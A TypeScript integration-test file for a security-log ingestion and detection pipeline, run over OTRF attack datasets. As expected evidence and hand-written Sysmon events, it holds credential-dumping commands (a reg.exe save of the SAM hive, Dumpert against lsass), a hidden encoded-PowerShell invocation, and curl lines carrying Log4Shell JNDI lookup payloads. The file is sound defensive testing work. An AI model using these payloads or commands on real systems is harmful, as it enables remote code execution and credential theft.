import { gzipSync } from "node:zlib";
import { GetObjectCommand } from "@aws-sdk/client-s3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import yauzl from "yauzl";
import { neo4jSecurityGraph } from "../../layers/adapters/neo4j/security-graph";
import { type KevEntry, toKevRow } from "../../layers/core/feeds/kev-catalog";
import { DETECTION_RULES } from "../../layers/core/security-logs/detection-rules";
import {
  DEFAULT_INGEST_OPTIONS,
  ingestLogObject,
  ingestS3Event,
  type LogObjectSummary,
  redetect,
  type SecurityLogStore,
} from "../../layers/core/security-logs/ingest-log-object";
import { buildClients, closeClients } from "../../layers/runtime/clients";
import { readSettings } from "../../layers/runtime/config";
import { describeRealData, readRealData } from "../support/real-data";
import { listKeys } from "./support/bronze";
import { testEnv } from "./support/env";
import { SecurityLogSandbox } from "./support/security-log-sandbox";
import { WarehouseSandbox } from "./support/warehouse";

// ingest-security-logs against the real stack (S3, Postgres), each suite in its own copy of the tables and
// its own bucket; the OTRF datasets of ../shared/data as published, with their metadata as sidecars.
const c = buildClients(readSettings(testEnv()));
afterAll(() => closeClients(c));

const DATASETS = [
  { zip: "empire_shell_reg_dump_sam", yaml: "SDWIN-190625133822", events: 738, technique: "T1003.002" },
  {
    zip: "cmd_lsass_memory_dumpert_syscalls",
    yaml: "SDWIN-201018225619",
    events: 118,
    technique: "T1003.001",
  },
  {
    zip: "psh_input_capture_promptforcreds",
    yaml: "SDWIN-201020013208",
    events: 163,
    technique: "T1056.002",
  },
  {
    zip: "securityauditing_log4shell_cve2021_44228_java_serialized_object",
    yaml: "Log4Shell",
    events: 39,
    technique: "T1190",
  },
] as const;

/** The first file of a zip, whole (small test inputs only). */
async function firstZipEntry(zip: Buffer): Promise<Buffer> {
  const file = await yauzl.fromBufferPromise(zip, { lazyEntries: true });
  const entry = await new Promise<yauzl.Entry>((resolve, reject) => {
    file.once("entry", resolve);
    file.once("error", reject);
    file.readEntry();
  });
  const chunks: Buffer[] = [];
  for await (const chunk of await file.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
  file.close();
  return Buffer.concat(chunks);
}

describeRealData("the OTRF datasets, dropped as zips with their metadata", () => {
  const box = new SecurityLogSandbox(c);
  const loaded = new Map<string, LogObjectSummary>();

  beforeAll(async () => {
    await box.create();
    for (const d of DATASETS) {
      // The metadata first, named after the dataset: the sidecar convention.
      await box.put(`raw-logs/otrf/${d.zip}.yaml`, readRealData(`otrf/${d.yaml}.yaml`));
      const ref = await box.put(`raw-logs/otrf/${d.zip}.zip`, readRealData(`otrf/${d.zip}.zip`));
      const [summary] = await ingestS3Event(box.deps(), box.event(ref));
      if (summary) loaded.set(d.zip, summary);
    }
  });
  afterAll(() => box.destroy());

  it.each(DATASETS)(
    "loads every event of $zip ($events), stamped with its metadata's techniques",
    async (d) => {
      const summary = loaded.get(d.zip);
      expect(summary).toMatchObject({ outcome: "loaded", events: d.events, inserted: d.events, rejected: 0 });
      expect(summary?.techniques).toContain(d.technique);
      const key = `raw-logs/otrf/${d.zip}.zip`;
      expect(await box.count("events", "object_key = $1", [key])).toBe(d.events);
      expect(
        await box.count("events", "object_key = $1 AND $2 = ANY(attack_techniques)", [key, d.technique]),
      ).toBe(d.events);
      const [ledger] = await box.rows(
        "SELECT status, lines_done, events_loaded FROM {objects} WHERE object_key = $1",
        [key],
      );
      expect(ledger).toMatchObject({
        status: "loaded",
        lines_done: String(d.events),
        events_loaded: String(d.events),
      });
    },
  );

  it.each(DATASETS)("detects $technique, the technique of $zip's metadata", async (d) => {
    const rows = await box.rows<{ rule_id: string; evidence_count: number; evidence_event_keys: string[] }>(
      "SELECT rule_id, evidence_count, evidence_event_keys FROM {detections} WHERE object_key = $1 AND technique_id = $2",
      [`raw-logs/otrf/${d.zip}.zip`, d.technique],
    );
    expect(rows.length).toBeGreaterThan(0);
    // The evidence points at real rows of silver.
    const keys = rows.flatMap((r) => r.evidence_event_keys);
    expect(await box.count("events", "event_key = ANY($1)", [keys])).toBe(keys.length);
  });

  it("finds exactly the expected evidence: reg save of the SAM hive, Dumpert opening lsass, credui in PowerShell", async () => {
    const evidence = await box.rows<{
      rule_id: string;
      host: string;
      process_image: string;
      command_line: string | null;
    }>(
      `SELECT d.rule_id, e.host, e.process_image, e.command_line
       FROM {detections} d JOIN {events} e ON e.event_key = ANY(d.evidence_event_keys)
       WHERE d.rule_id IN ('sam-hive-dump', 'lsass-memory-access', 'credential-prompt-from-script-host', 'java-server-spawns-shell')
       ORDER BY d.rule_id, e.line_no`,
    );
    expect(evidence).toEqual([
      {
        rule_id: "credential-prompt-from-script-host",
        host: "workstation5",
        process_image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        command_line: null,
      },
      {
        rule_id: "credential-prompt-from-script-host",
        host: "workstation5",
        process_image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        command_line: null,
      },
      {
        rule_id: "java-server-spawns-shell",
        host: "workstation5",
        process_image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        command_line: expect.stringMatching(/^powershell\.exe -NonI -W Hidden -NoP -Exec Bypass -Enc /),
      },
      {
        rule_id: "lsass-memory-access",
        host: "workstation5",
        process_image: "C:\\Users\\wardog\\Desktop\\Outflank-Dumpert.exe",
        command_line: null,
      },
      {
        rule_id: "lsass-memory-access",
        host: "workstation5",
        process_image: "C:\\Users\\wardog\\Desktop\\Outflank-Dumpert.exe",
        command_line: null,
      },
      {
        rule_id: "sam-hive-dump",
        host: "workstation5.theshire.local",
        process_image: "C:\\Windows\\System32\\reg.exe",
        command_line: '"C:\\windows\\system32\\reg.exe" save HKLM\\sam sam',
      },
      {
        rule_id: "sam-hive-dump",
        host: "workstation5.theshire.local",
        process_image: "C:\\Windows\\System32\\reg.exe",
        command_line: '"C:\\windows\\system32\\reg.exe" save HKLM\\sam sam',
      },
    ]);
  });

  it("fires nothing else: every detection over the four datasets, by object, rule and host", async () => {
    const all = await box.rows(
      `SELECT split_part(object_key, '/', 3) AS object, rule_id, technique_id, host, evidence_count
       FROM {detections} ORDER BY 1, 2`,
    );
    expect(all).toEqual([
      {
        object: "cmd_lsass_memory_dumpert_syscalls.zip",
        rule_id: "lsass-memory-access",
        technique_id: "T1003.001",
        host: "workstation5",
        evidence_count: 2,
      },
      {
        object: "empire_shell_reg_dump_sam.zip",
        rule_id: "sam-hive-dump",
        technique_id: "T1003.002",
        host: "workstation5.theshire.local",
        evidence_count: 2,
      },
      {
        object: "psh_input_capture_promptforcreds.zip",
        rule_id: "credential-prompt-from-script-host",
        technique_id: "T1056.002",
        host: "workstation5",
        evidence_count: 2,
      },
      {
        object: "securityauditing_log4shell_cve2021_44228_java_serialized_object.zip",
        rule_id: "java-server-spawns-shell",
        technique_id: "T1190",
        host: "workstation5",
        evidence_count: 1,
      },
      {
        object: "securityauditing_log4shell_cve2021_44228_java_serialized_object.zip",
        rule_id: "powershell-encoded-command",
        technique_id: "T1059.001",
        host: "workstation5",
        evidence_count: 1,
      },
    ]);
  });

  it("puts every event time in UTC, whatever clock its layout used", async () => {
    const spans = await box.rows<{ object_key: string; first: string; last: string; sources: string[] }>(
      `SELECT object_key, min(event_time) AT TIME ZONE 'UTC' AS first, max(event_time) AT TIME ZONE 'UTC' AS last,
         array_agg(DISTINCT time_source ORDER BY time_source) AS sources
       FROM {events} GROUP BY object_key ORDER BY object_key`,
    );
    const byName = Object.fromEntries(spans.map((s) => [s.object_key.split("/").pop(), s]));
    const iso = (d: unknown) => (d as Date).toISOString();
    // Dumpert ran at 22:56 EDT (UTC-4) on 2020-10-18; TimeCreated shows "10:56" (a 12-hour clock, no zone).
    const lsass = byName["cmd_lsass_memory_dumpert_syscalls.zip"];
    expect(iso(lsass?.first)).toMatch(/^2020-10-19T02:5/);
    expect(iso(lsass?.last)).toMatch(/^2020-10-19T02:5/);
    expect(lsass?.sources).toEqual(["TimeCreated+offset(UtcTime)", "UtcTime"]);
    const psh = byName["psh_input_capture_promptforcreds.zip"];
    expect(iso(psh?.first)).toMatch(/^2020-10-20T05:3/);
    expect(psh?.sources).toEqual(["TimeCreated+offset(UtcTime)", "UtcTime"]);
    // nxlog: local EventTime (04:28 EDT) with the zone read off @timestamp − EventReceivedTime.
    const sam = byName["empire_shell_reg_dump_sam.zip"];
    expect(iso(sam?.first)).toMatch(/^2020-09-22T08:2/);
    expect(sam?.sources).toEqual(["EventTime+offset(@timestamp-EventReceivedTime)", "UtcTime"]);
    const sentinel = byName["securityauditing_log4shell_cve2021_44228_java_serialized_object.zip"];
    expect(iso(sentinel?.first)).toMatch(/^2022-05-13T08:5/);
    expect(sentinel?.sources).toEqual(["TimeGenerated"]);
  });

  it("spells each channel one way and finds IPs wherever the layout keeps them", async () => {
    const channels = await box.rows<{ channel: string }>(
      "SELECT DISTINCT channel FROM {events} ORDER BY channel",
    );
    expect(channels.map((r) => r.channel)).toEqual([
      "microsoft-windows-powershell/operational",
      "microsoft-windows-sysmon/operational",
      "security",
      "system",
      "windows powershell",
    ]);
    const ips = await box.rows<{
      name: string;
      event_id: number;
      source_ip: string;
      destination_ip: string | null;
    }>(
      `SELECT DISTINCT split_part(object_key, '/', 3) AS name, event_id, host(source_ip) AS source_ip,
         host(destination_ip) AS destination_ip
       FROM {events} WHERE event_id IN (4624, 5156) AND source_ip IS NOT NULL ORDER BY 1, 2, 3, 4`,
    );
    // 4624 keeps it in IpAddress; 5156 in SourceAddress/DestAddress (in Sentinel's EventData XML, too).
    expect(ips).toContainEqual({
      name: "empire_shell_reg_dump_sam.zip",
      event_id: 4624,
      source_ip: "::1",
      destination_ip: null,
    });
    expect(ips).toContainEqual({
      name: "cmd_lsass_memory_dumpert_syscalls.zip",
      event_id: 5156,
      source_ip: "192.168.2.5",
      destination_ip: "168.63.129.16",
    });
    expect(ips).toContainEqual({
      name: "securityauditing_log4shell_cve2021_44228_java_serialized_object.zip",
      event_id: 5156,
      source_ip: "192.168.3.5",
      destination_ip: "192.168.2.5",
    });
    // What no column took is kept: the Sysmon access mask, Sentinel's tenant.
    expect(await box.count("events", "extra ? 'GrantedAccess'")).toBeGreaterThan(400);
    expect(await box.count("events", "extra ->> 'TenantId' = 'redacted'")).toBe(39);
    expect(await box.count("events", "extra ? 'EventData'")).toBe(0);
  });

  it("refuses the auditd text of sh_arp_cache.zip into quarantine, every line with its file, number and reason", async () => {
    await box.put("raw-logs/otrf/sh_arp_cache.yaml", readRealData("otrf/SDLIN-201110074812.yaml"));
    const ref = await box.put("raw-logs/otrf/sh_arp_cache.zip", readRealData("otrf/sh_arp_cache.zip"));
    const [summary] = await ingestS3Event(box.deps(), box.event(ref));
    expect(summary).toMatchObject({ outcome: "refused", events: 0, rejected: 12 });
    expect(summary?.reason).toMatch(
      /no line is an event \(12 rejected\); first: sh_arp_cache_2020-11-10074812\.log line 1: raw_text \(Linux auditd text/,
    );
    const rejects = await box.rows<{
      member: string;
      line_no: number;
      reason: string;
      quarantine_key: string;
    }>(
      "SELECT member, line_no, reason, quarantine_key FROM {rejects} WHERE object_key = $1 ORDER BY line_no",
      [ref.key],
    );
    expect(rejects.map((r) => r.line_no)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]);
    expect(new Set(rejects.map((r) => `${r.member}|${r.reason}`))).toEqual(
      new Set(["sh_arp_cache_2020-11-10074812.log|raw_text"]),
    );
    const qKey = rejects[0]?.quarantine_key ?? "";
    expect(qKey).toBe(
      `quarantine/security-logs/${box.bucket}/raw-logs/otrf/sh_arp_cache.zip/${ref.etag}/lines-1-12.jsonl`,
    );
    const object = await c.s3.send(new GetObjectCommand({ Bucket: box.bucket, Key: qKey }));
    const lines = ((await object.Body?.transformToString()) ?? "")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(12);
    expect(lines[0]).toMatchObject({
      file: "sh_arp_cache_2020-11-10074812.log",
      line: 1,
      reason: "raw_text",
    });
    expect(lines[0].text).toMatch(/^type=SYSCALL msg=audit\(1604994496\.155:92733\)/);
    expect(await box.count("events", "object_key = $1", [ref.key])).toBe(0);
  });

  it("changes nothing when the same objects are delivered again", async () => {
    const before = await box.fingerprint();
    for (const d of DATASETS) {
      const key = `raw-logs/otrf/${d.zip}.zip`;
      const [ledger] = await box.rows<{ etag: string }>("SELECT etag FROM {objects} WHERE object_key = $1", [
        key,
      ]);
      const [again] = await ingestS3Event(
        box.deps(),
        box.event({ bucket: box.bucket, key, etag: ledger?.etag ?? "", size: 0 }),
      );
      expect(again).toMatchObject({ outcome: "duplicate", inserted: 0, events: d.events });
    }
    expect(await box.fingerprint()).toBe(before);
  });
});

describeRealData("the security marts (dbt, warehouse/models/security) over the OTRF datasets", () => {
  const box = new SecurityLogSandbox(c);
  const wh = new WarehouseSandbox(testEnv().DATABASE_URL ?? "");
  beforeAll(async () => {
    await box.create();
    await wh.create();
    for (const d of DATASETS) {
      await box.put(`raw-logs/otrf/${d.zip}.yaml`, readRealData(`otrf/${d.yaml}.yaml`));
      const ref = await box.put(`raw-logs/otrf/${d.zip}.zip`, readRealData(`otrf/${d.zip}.zip`));
      await ingestS3Event(box.deps(), box.event(ref));
    }
  });
  afterAll(async () => {
    await wh.drop();
    await box.destroy();
  });

  it("builds and passes its tests, counting every event per host, day and event id", async () => {
    const run = await wh.dbt(["build", "--select", "path:models/security"], {
      silver_schema: box.silverSchema,
      raw_schema: box.rawSchema,
    });
    expect(run.code, run.output).toBe(0);
    expect(run.summary).toMatch(/ERROR=0/);
    expect(await wh.scalar(`SELECT sum(event_count) AS n FROM ${wh.marts}.fct_security_events_daily`)).toBe(
      1058,
    );
    expect(
      await wh.scalar(
        `SELECT event_count AS n FROM ${wh.marts}.fct_security_events_daily
         WHERE host = 'workstation5' AND event_date = '2022-05-13' AND channel = 'security' AND event_id = 4688`,
      ),
    ).toBe(2);
    const detections = await wh.pool.query(
      `SELECT technique_id, parent_technique_id, in_kev FROM ${wh.marts}.fct_security_detections ORDER BY 1`,
    );
    expect(detections.rows).toEqual([
      { technique_id: "T1003.001", parent_technique_id: "T1003", in_kev: false },
      { technique_id: "T1003.002", parent_technique_id: "T1003", in_kev: false },
      { technique_id: "T1056.002", parent_technique_id: "T1056", in_kev: false },
      { technique_id: "T1059.001", parent_technique_id: "T1059", in_kev: false },
      { technique_id: "T1190", parent_technique_id: "T1190", in_kev: false },
    ]);
  });
});

describeRealData("one dataset as .json and as .json.gz", () => {
  const box = new SecurityLogSandbox(c);
  let json: Buffer;
  beforeAll(async () => {
    await box.create();
    json = await firstZipEntry(readRealData("otrf/psh_input_capture_promptforcreds.zip"));
  });
  afterAll(() => box.destroy());

  it("loads the same 163 events from either, techniques from S3 user metadata", async () => {
    const plain = await box.put("raw-logs/psh.json", json, { "attack-techniques": "T1056.002" });
    const gz = await box.put("raw-logs/psh.json.gz", gzipSync(json), {
      "attack-techniques": "t1056.002, T1056",
    });
    const [a, b] = await ingestS3Event(box.deps(), box.event(plain, gz));
    expect(a).toMatchObject({ kind: "json", outcome: "loaded", events: 163, techniques: ["T1056.002"] });
    expect(b).toMatchObject({
      kind: "gzip",
      outcome: "loaded",
      events: 163,
      techniques: ["T1056", "T1056.002"],
    });
    const differing = await box.rows(
      `SELECT line_no, event_time, host, event_id, extra FROM {events} WHERE object_key = $1
       EXCEPT SELECT line_no, event_time, host, event_id, extra FROM {events} WHERE object_key = $2`,
      [plain.key, gz.key],
    );
    expect(differing).toEqual([]);
  });
});

describeRealData("a load killed mid-file", () => {
  const box = new SecurityLogSandbox(c);
  beforeAll(() => box.create());
  afterAll(() => box.destroy());

  it("resumes after the last committed chunk and ends with every event exactly once", async () => {
    const ref = await box.put("raw-logs/crash/sam.zip", readRealData("otrf/empire_shell_reg_dump_sam.zip"));
    const options = { ...DEFAULT_INGEST_OPTIONS, chunkLines: 100 };
    // The real store, which dies (as a killed process would) right after its third chunk committed.
    const real = box.store();
    let commits = 0;
    const dying: SecurityLogStore = {
      ...real,
      async commitChunk(r, chunk) {
        const out = await real.commitChunk(r, chunk);
        commits += 1;
        if (commits === 3) throw new Error("killed after 3 chunks");
        return out;
      },
    };
    await expect(ingestLogObject(box.deps({ store: dying }), ref, options)).rejects.toThrow(
      "killed after 3 chunks",
    );
    const [mid] = await box.rows(
      "SELECT status, lines_done, events_loaded FROM {objects} WHERE object_key = $1",
      [ref.key],
    );
    expect(mid).toMatchObject({ status: "loading", lines_done: "300", events_loaded: "300" });
    expect(await box.count("events")).toBe(300);

    const resumed = await ingestLogObject(box.deps(), ref, options);
    expect(resumed).toMatchObject({ outcome: "loaded", resumedFrom: 300, inserted: 438, events: 738 });
    expect(await box.count("events")).toBe(738);
    const [distinct] = await box.rows<{ n: string }>(
      "SELECT count(DISTINCT (member, line_no)) AS n FROM {events}",
    );
    expect(Number(distinct?.n)).toBe(738);
    const [ledger] = await box.rows("SELECT attempts, status FROM {objects} WHERE object_key = $1", [
      ref.key,
    ]);
    expect(ledger).toMatchObject({ attempts: 2, status: "loaded" });
    expect(await box.count("detections", "technique_id = 'T1003.002'")).toBe(1);
  });
});

/** A Sysmon process-creation line, hand-written in the evtx export layout. */
const sysmonLine = (host: string, line: number, fields: Record<string, unknown>) =>
  JSON.stringify({
    TimeCreated: `2026-11-20 09:00:${String(line).padStart(2, "0")}.000`,
    UtcTime: `2026-11-20 14:00:${String(line).padStart(2, "0")}.000`,
    Hostname: host,
    Channel: "Microsoft-Windows-Sysmon/Operational",
    SourceName: "Microsoft-Windows-Sysmon",
    EventID: 1,
    ...fields,
  });

describe("detections linked to KEV, object versions and late metadata (hand-written events)", () => {
  const box = new SecurityLogSandbox(c);
  beforeAll(() => box.create());
  afterAll(() => box.destroy());

  it("links a JNDI lookup to CVE-2021-44228 and marks it listed in KEV", async () => {
    // The entry as CISA publishes it (catalogue 2025.01.24), written here so the test needs no real data.
    const log4j: KevEntry = {
      cveID: "CVE-2021-44228",
      vendorProject: "Apache",
      product: "Log4j2",
      vulnerabilityName: "Apache Log4j2 Remote Code Execution Vulnerability",
      dateAdded: "2021-12-10",
      shortDescription:
        "Apache Log4j2 contains a vulnerability where JNDI features do not protect against attacker-controlled JNDI-related endpoints, allowing for remote code execution.",
      requiredAction:
        "For all affected software assets for which updates exist, the only acceptable remediation actions are: 1) Apply updates; OR 2) remove affected assets from agency networks.",
      dueDate: "2021-12-24",
      knownRansomwareCampaignUse: "Known",
      notes: "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
      cwes: ["CWE-20", "CWE-400", "CWE-502"],
    };
    const row = {
      ...toKevRow(log4j),
      first_catalog_version: "2025.01.24",
      catalog_version: "2025.01.24",
      snapshot_key: "test",
    };
    const columns = Object.keys(row).join(", ");
    await box.rows(
      `INSERT INTO {kev} (${columns}) SELECT ${columns} FROM jsonb_populate_record(NULL::{kev}, $1::jsonb)`,
      [JSON.stringify(row)],
    );
    const body = [
      sysmonLine("WEB01", 1, {
        Image: "C:\\Windows\\System32\\curl.exe",
        CommandLine:
          // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup (Log4Shell.yaml's adversary view)
          "curl -X GET -H 'user-agent: ${jndi:ldap://192.168.2.6:1389/o=reference}' 192.168.2.5:8080/api",
      }),
      sysmonLine("WEB01", 2, { Image: "C:\\Windows\\System32\\whoami.exe", CommandLine: "whoami" }),
    ].join("\n");
    const ref = await box.put("raw-logs/kev/jndi.json", body);
    const [summary] = await ingestS3Event(box.deps(), box.event(ref));
    expect(summary).toMatchObject({ outcome: "loaded", events: 2, detections: 1 });
    const [d] = await box.rows(
      "SELECT rule_id, technique_id, cve_id, kev_listed, host, evidence_count FROM {detections}",
    );
    expect(d).toEqual({
      rule_id: "log4shell-jndi-lookup",
      technique_id: "T1190",
      cve_id: "CVE-2021-44228",
      kev_listed: true,
      host: "web01",
      evidence_count: 1,
    });
  });

  it("replaces an object's rows when a newer version is loaded, and ignores the stale version", async () => {
    const v1 = await box.put(
      "raw-logs/versions/x.json",
      [1, 2, 3].map((i) => sysmonLine("H1", i, {})).join("\n"),
    );
    expect((await ingestS3Event(box.deps(), box.event(v1)))[0]).toMatchObject({
      outcome: "loaded",
      events: 3,
    });
    const v2 = await box.put(
      "raw-logs/versions/x.json",
      [1, 2, 3, 4, 5].map((i) => sysmonLine("H1", i, {})).join("\n"),
    );
    expect((await ingestS3Event(box.deps(), box.event(v2)))[0]).toMatchObject({
      outcome: "loaded",
      events: 5,
    });
    expect(await box.count("events", "object_key = $1", [v1.key])).toBe(5);
    // v1 again (a late or repeated notification): already superseded, nothing changes.
    expect((await ingestS3Event(box.deps(), box.event(v1)))[0]).toMatchObject({ outcome: "duplicate" });
    const versions = await box.rows(
      "SELECT etag, status FROM {objects} WHERE object_key = $1 ORDER BY status",
      [v1.key],
    );
    expect(versions).toEqual([
      { etag: v2.etag, status: "loaded" },
      { etag: v1.etag, status: "superseded" },
    ]);
  });

  it("runs the current rules again over loaded versions, skipping superseded ones (redetect)", async () => {
    // Loaded while the rules had no JNDI rule: nothing found then.
    const withoutJndi = {
      ...DETECTION_RULES,
      digest: "before-jndi",
      rules: DETECTION_RULES.rules.filter((r) => r.id !== "log4shell-jndi-lookup"),
    };
    const jndiLine = (line: number) =>
      sysmonLine("WEB02", line, {
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
        CommandLine: "curl -H 'X-Api-Version: ${jndi:ldap://198.51.100.9/a}' http://app",
      });
    const old = await box.put("raw-logs/redetect/a.json", jndiLine(1));
    const ref = await box.put("raw-logs/redetect/a.json", [jndiLine(1), jndiLine(2)].join("\n"));
    const stale = box.deps({ rules: withoutJndi });
    await ingestLogObject(stale, old);
    await ingestLogObject(stale, ref);
    expect(await box.count("detections", "object_key = $1", [ref.key])).toBe(0);
    const before = box.graph.vulnerabilities.length;

    const done = await redetect(box.deps(), box.bucket, "raw-logs/redetect/");
    expect(done).toEqual([{ key: ref.key, etag: ref.etag, outcome: "redetected", before: 0, detections: 1 }]);
    const rows = await box.rows(
      "SELECT etag, rule_id, cve_id, evidence_count, rules_digest FROM {detections} WHERE object_key = $1",
      [ref.key],
    );
    expect(rows).toEqual([
      {
        etag: ref.etag,
        rule_id: "log4shell-jndi-lookup",
        cve_id: "CVE-2021-44228",
        evidence_count: 2,
        rules_digest: DETECTION_RULES.digest,
      },
    ]);
    const ledger = await box.rows("SELECT etag, status, detections FROM {objects} WHERE object_key = $1", [
      ref.key,
    ]);
    expect(ledger).toEqual(
      expect.arrayContaining([
        { etag: ref.etag, status: "loaded", detections: 1 },
        { etag: old.etag, status: "superseded", detections: 0 },
      ]),
    );
    expect(box.graph.vulnerabilities.slice(before).map((v) => [v.host, v.cve])).toEqual([
      ["web02", "CVE-2021-44228"],
    ]);
    // A superseded version is never written to, even asked for directly (a newer one replaced it while the
    // rules ran).
    expect(await box.store().replaceDetections(old, [], DETECTION_RULES)).toBe(false);
    // A second run finds the same and changes nothing.
    expect(await redetect(box.deps(), box.bucket, "raw-logs/redetect/")).toEqual([
      { key: ref.key, etag: ref.etag, outcome: "redetected", before: 1, detections: 1 },
    ]);
  });

  it("refuses a version that is no longer current, and an unsupported file type", async () => {
    const old = await box.put("raw-logs/versions/y.json", sysmonLine("H2", 1, {}));
    await box.put("raw-logs/versions/y.json", sysmonLine("H2", 2, {}));
    expect((await ingestS3Event(box.deps(), box.event(old)))[0]).toMatchObject({ outcome: "superseded" });
    const pdf = await box.put("raw-logs/report.pdf", "%PDF-1.7");
    const [refused] = await ingestS3Event(box.deps(), box.event(pdf));
    expect(refused).toMatchObject({ outcome: "refused", kind: "unsupported" });
    expect(refused?.reason).toMatch(/unsupported object type "report\.pdf"/);
  });

  it("stamps a dataset's techniques on events already loaded when its sidecar arrives later", async () => {
    const log = await box.put("raw-logs/late/ds.json", sysmonLine("H3", 1, {}));
    expect((await ingestS3Event(box.deps(), box.event(log)))[0]).toMatchObject({
      outcome: "loaded",
      techniques: [],
    });
    const sidecar = await box.put("raw-logs/late/ds.yaml", "attack_techniques: [T1003.001]\n");
    expect((await ingestS3Event(box.deps(), box.event(sidecar)))[0]).toMatchObject({ outcome: "metadata" });
    const [row] = await box.rows<{ attack_techniques: string[] }>(
      "SELECT attack_techniques FROM {events} WHERE object_key = $1",
      [log.key],
    );
    expect(row?.attack_techniques).toEqual(["T1003.001"]);
  });

  it("quarantines the bad lines of a file and loads the others", async () => {
    const body = [
      sysmonLine("H4", 1, {}),
      "{not json",
      "",
      '["an", "array"]',
      '{"Hostname": "H4"}',
      sysmonLine("H4", 6, {}),
      // Text Postgres cannot store: a raw NUL byte (valid UTF-8, not JSON), an escaped NUL in a field.
      '{"Hostname": "H\u0000', // the character itself
      sysmonLine("H4", 8, { CommandLine: "cmd\u0000x" }),
      sysmonLine("H4", 9, {}),
    ].join("\r\n");
    const ref = await box.put("raw-logs/mixed/m.json", body);
    const [summary] = await ingestS3Event(box.deps(), box.event(ref));
    expect(summary).toMatchObject({ outcome: "loaded", events: 3, rejected: 5, lines: 9 });
    const rejects = await box.rows(
      "SELECT line_no, reason, line_head FROM {rejects} WHERE object_key = $1 ORDER BY line_no",
      [ref.key],
    );
    expect(rejects.map(({ line_head: _, ...r }) => r)).toEqual([
      { line_no: 2, reason: "not_json" },
      { line_no: 4, reason: "not_an_object" },
      { line_no: 5, reason: "no_event_time" },
      { line_no: 7, reason: "not_json" },
      { line_no: 8, reason: "bad_text" },
    ]);
    // Postgres shows the NUL as U+FFFD; the quarantined copy keeps the line as it came.
    expect(rejects[3]?.line_head).toBe('{"Hostname": "H\uFFFD');
    const keys = await listKeys(c.s3, box.bucket, `quarantine/security-logs/${box.bucket}/raw-logs/mixed/`);
    expect(keys).toHaveLength(1);
    const object = await c.s3.send(new GetObjectCommand({ Bucket: box.bucket, Key: keys[0] ?? "" }));
    const quarantined = ((await object.Body?.transformToString()) ?? "").trim().split("\n");
    expect(quarantined.map((l) => JSON.parse(l).text)).toContain('{"Hostname": "H\u0000');
  });

  it("merges (Host)-[:OBSERVED]->(Technique|Vulnerability) and the host's addresses into the shared nodes", async () => {
    const host = `seclog-${box.suffix}`;
    // An address of the documentation range no other test uses, unique to this run.
    const ip = `198.51.100.${(Number.parseInt(box.suffix, 16) % 250) + 1}`;
    const lsass = {
      EventID: 10,
      TargetImage: "C:\\Windows\\System32\\lsass.exe",
      GrantedAccess: "0x1010",
      SourceImage: "C:\\t\\x.exe",
    };
    const body = [
      sysmonLine(host, 1, lsass),
      sysmonLine(host, 2, { EventID: 3, SourceIp: "10.9.8.7", DestinationIp: ip, DestinationPort: 443 }),
      sysmonLine(host, 3, { EventID: 3, SourceIp: "127.0.0.1", DestinationIp: "0.0.0.0" }),
      sysmonLine(host, 4, {
        EventID: 1,
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
        CommandLine: "curl -H 'X-Api-Version: ${jndi:ldap://x/a}' http://app",
      }),
    ].join("\n");
    const ref = await box.put("raw-logs/graph/g.json", body);
    const deps = box.deps({ graph: neo4jSecurityGraph(c.neo4j) });
    // The CVE's node is shared with KEV and other tests: made here only if no one had made it.
    const cve = "CVE-2021-44228";
    const { records: before } = await c.neo4j.executeQuery("MATCH (v:Vulnerability {cve: $cve}) RETURN v", {
      cve,
    });
    try {
      for (let i = 0; i < 2; i += 1) await ingestLogObject(deps, ref);
      // Twice delivered, merged once: the second delivery is a duplicate and MERGE is idempotent anyway.
      const { records } = await c.neo4j.executeQuery(
        `MATCH (h:Host {name: $host})
         OPTIONAL MATCH (h)-[o:OBSERVED]->(t:Technique)
         WITH h, collect(t.id + ' ' + o.rules[0]) AS techniques
         OPTIONAL MATCH (h)-[o:OBSERVED]->(v:Vulnerability)
         WITH h, techniques, collect(v.cve + ' ' + o.rules[0] + ' ' + toString(o.first_seen = o.last_seen)) AS cves
         OPTIONAL MATCH (h)-[:COMMUNICATED_WITH]->(a:IPAddress)
         RETURN techniques, cves, collect(a.value) AS addresses`,
        { host },
      );
      expect([...((records[0]?.get("techniques") as string[] | undefined) ?? [])].sort()).toEqual([
        "T1003.001 lsass-memory-access",
        "T1190 log4shell-jndi-lookup",
      ]);
      expect(records[0]?.get("cves")).toEqual([`${cve} log4shell-jndi-lookup true`]);
      expect([...((records[0]?.get("addresses") as string[] | undefined) ?? [])].sort()).toEqual(
        ["10.9.8.7", ip].sort(),
      );
    } finally {
      await c.neo4j.executeQuery("MATCH (h:Host {name: $host}) DETACH DELETE h", { host });
      if (before.length === 0) {
        await c.neo4j.executeQuery("MATCH (v:Vulnerability {cve: $cve}) WHERE NOT (v)--() DELETE v", { cve });
      }
      // The addresses were made for this test alone: gone once nothing points at them.
      await c.neo4j.executeQuery("MATCH (a:IPAddress) WHERE a.value IN $ips AND NOT (a)--() DELETE a", {
        ips: ["10.9.8.7", ip],
      });
    }
  });
});
